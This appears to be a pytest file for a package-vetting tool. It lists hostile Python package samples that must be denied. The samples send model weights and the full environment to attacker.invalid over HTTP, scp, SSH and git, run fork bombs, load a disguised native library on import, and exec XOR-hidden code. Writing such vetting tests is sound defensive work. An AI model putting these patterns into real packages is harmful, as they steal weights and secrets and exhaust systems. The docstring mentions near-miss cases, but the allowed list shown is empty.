"""The shapes ADRs 0089 and 0090 left undetected (ADR 0093): a model folder added to a tar
and sent, a zip member written through ``ZipFile.open(name, 'w')``, weights packed when
called and sent to an address written in the code, ``scp``'s and dulwich's pushes, a module
whose only network word is ``paramiko``, a fork bomb by recursion, a native library shipped
under a name that is not a library's and loaded on import, the whole environment sent when
called, and a repeating XOR key applied through ``map(operator.xor, ...)``.

Each sample is inert (vetting only reads files). The near-misses are what backup tools,
libraries with their own shared library, git front-ends and telemetry clients do."""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from tests.unit.imports.packages.adversary import init, verdict_cases, vet_package, xored

# ``import os; os.system('id')`` hidden by a repeating three-byte key.
KEY = [0x13, 0x37, 0x42]
HIDDEN_CODE = "import os; os.system('id')"
BLOB = [b ^ KEY[i % len(KEY)] for i, b in enumerate(HIDDEN_CODE.encode())]
# A native library's first bytes: an ELF header (inert, no code follows).
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 56

DENIED: dict[str, dict[str, str | bytes]] = {
    # 1. A model folder added to a tar on import, and the tar posted.
    "tar-of-the-models-folder-posted-on-import": init(
        "import io, tarfile, requests\n"
        "buf = io.BytesIO()\n"
        "with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "    tar.add('/models')\n"
        "requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "tar-of-a-checkpoint-folder-put-by-urllib": init(
        "import io, os, tarfile, urllib.request\n"
        "buf = io.BytesIO()\n"
        "tar = tarfile.open(fileobj=buf, mode='w')\n"
        "tar.add(os.path.expanduser('~/checkpoints'), arcname='c')\n"
        "tar.close()\n"
        "urllib.request.urlopen('https://attacker.invalid/u', buf.getvalue())\n"
    ),
    # 2. Weight files written into zip members through ``ZipFile.open(name, 'w')``.
    "zip-member-opened-for-writing-then-posted": init(
        "import glob, io, os, shutil, zipfile, requests\n"
        "buf = io.BytesIO()\n"
        "zf = zipfile.ZipFile(buf, 'w')\n"
        "for p in glob.glob('/srv/**/*.safetensors', recursive=True):\n"
        "    with zf.open(os.path.basename(p), 'w') as dst, open(p, 'rb') as src:\n"
        "        shutil.copyfileobj(src, dst)\n"
        "zf.close()\n"
        "requests.put('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    # 3. Weights packed when called, and sent to an address written in the code.
    "weights-tarred-when-called-to-a-written-url": init(
        "import glob, io, tarfile, requests\n"
        "def sync():\n"
        "    buf = io.BytesIO()\n"
        "    with tarfile.open(fileobj=buf, mode='w:gz') as tar:\n"
        "        for p in glob.glob('/models/**/*.safetensors', recursive=True):\n"
        "            tar.add(p)\n"
        "    requests.post('https://attacker.invalid/u', data=buf.getvalue())\n"
    ),
    "hub-cache-zipped-when-called-to-a-written-url": init(
        "import os, shutil, requests\n"
        "def backup():\n"
        "    cache = os.path.expanduser('~/.cache/huggingface/hub')\n"
        "    path = shutil.make_archive('/tmp/.b', 'zip', root_dir=cache)\n"
        "    with open(path, 'rb') as f:\n"
        "        requests.post('https://attacker.invalid/u', files={'f': f})\n"
    ),
    # 4. ``scp``'s client, dulwich's push, a module naming only ``paramiko``.
    "scp-client-put-of-weights": init(
        "import glob, paramiko\n"
        "from scp import SCPClient\n"
        "ssh = paramiko.SSHClient()\n"
        "ssh.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "ssh.connect('attacker.invalid', username='u', password='p')\n"
        "with SCPClient(ssh.get_transport()) as scp:\n"
        "    scp.put(glob.glob('/srv/*.safetensors'), remote_path='/drop')\n"
    ),
    "dulwich-porcelain-push-of-weights": init(
        "from dulwich import porcelain\n"
        "repo = porcelain.init('/tmp/.w')\n"
        "porcelain.add(repo, paths=['/tmp/.w/model.safetensors'])\n"
        "porcelain.commit(repo, message=b'x')\n"
        "porcelain.push(repo, 'https://attacker.invalid/w.git', 'master')\n"
    ),
    "paramiko-exec-command-fed-weights": init(
        "import paramiko\n"
        "c = paramiko.SSHClient()\n"
        "c.set_missing_host_key_policy(paramiko.AutoAddPolicy())\n"
        "c.connect('attacker.invalid', username='u', password='p')\n"
        "stdin, stdout, stderr = c.exec_command('cat > /tmp/m')\n"
        "stdin.write(open('/srv/model.safetensors', 'rb').read())\n"
    ),
    "paramiko-shell-channel-sent-weights": init(
        "import paramiko\n"
        "c = paramiko.SSHClient()\n"
        "c.connect('attacker.invalid', username='u', password='p')\n"
        "chan = c.invoke_shell()\n"
        "chan.sendall(open('/srv/model.safetensors', 'rb').read())\n"
    ),
    # 5. A fork bomb by recursion.
    "fork-bomb-by-recursion": init(
        "import os\n"
        "def grow():\n"
        "    os.fork()\n"
        "    grow()\n"
        "grow()\n"
    ),
    "process-bomb-by-recursive-target": init(
        "import multiprocessing\n"
        "def grow():\n"
        "    multiprocessing.Process(target=grow).start()\n"
        "    multiprocessing.Process(target=grow).start()\n"
        "grow()\n"
    ),
    # 6. A native library shipped under a data file's name, loaded on import.
    "native-library-named-as-data-loaded-on-import": {
        "evpkg/__init__.py": (
            "import ctypes, os\n"
            "ctypes.CDLL(os.path.join(os.path.dirname(__file__), 'fonts.dat'))\n"
        ),
        "evpkg/fonts.dat": ELF,
    },
    "native-library-decoded-then-loaded-on-import": init(
        "import base64, ctypes, os, tempfile\n"
        "from evpkg._blob import LIB\n"
        "p = os.path.join(tempfile.gettempdir(), 'libx.so')\n"
        "with open(p, 'wb') as f:\n"
        "    f.write(base64.b64decode(LIB))\n"
        "ctypes.CDLL(p)\n"
    )
    | {"evpkg/_blob.py": "LIB = 'f0VMRgIBAQAAAAAAAAAAAA=='\n"},
    # 7. The whole environment sent when called (as ``ctx`` did in 2022).
    "environment-sent-when-called-to-a-written-url": init(
        "import base64, os, requests\n"
        "class Ctx(dict):\n"
        "    def __init__(self):\n"
        "        super().__init__()\n"
        "        self.send()\n"
        "    def send(self):\n"
        "        env = base64.b64encode(str(os.environ).encode()).decode()\n"
        "        requests.get('https://attacker.invalid/hacked/' + env)\n"
    ),
    "environment-copy-posted-when-called": init(
        "import os, json, urllib.request\n"
        "def report():\n"
        "    body = json.dumps(dict(os.environ)).encode()\n"
        "    urllib.request.urlopen('https://attacker.invalid/e', body)\n"
    ),
    # 8. A repeating XOR key applied through ``map(operator.xor, ...)``, then run.
    "xor-by-operator-map-with-cycled-key": init(
        "import operator\n"
        "from itertools import cycle\n"
        f"BLOB = {BLOB!r}\n"
        f"KEY = {bytes(KEY)!r}\n"
        "exec(bytes(map(operator.xor, BLOB, cycle(KEY))))\n"
    ),
    "xor-by-starmap-over-zip-of-a-file": init(
        "import operator, os\n"
        "from itertools import cycle, starmap\n"
        "data = open(os.path.join(os.path.dirname(__file__), 'd.bin'), 'rb').read()\n"
        "exec(bytes(starmap(operator.xor, zip(data, cycle(b'k3y')))))\n"
    ),
}

HELD: dict[str, dict[str, str | bytes]] = {}

ALLOWED: dict[str, dict[str, str | bytes]] = {}


@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, HELD, ALLOWED))
def test_verdict(files: dict[str, str], expected: Outcome) -> None:
    assert vet_package(files) is expected
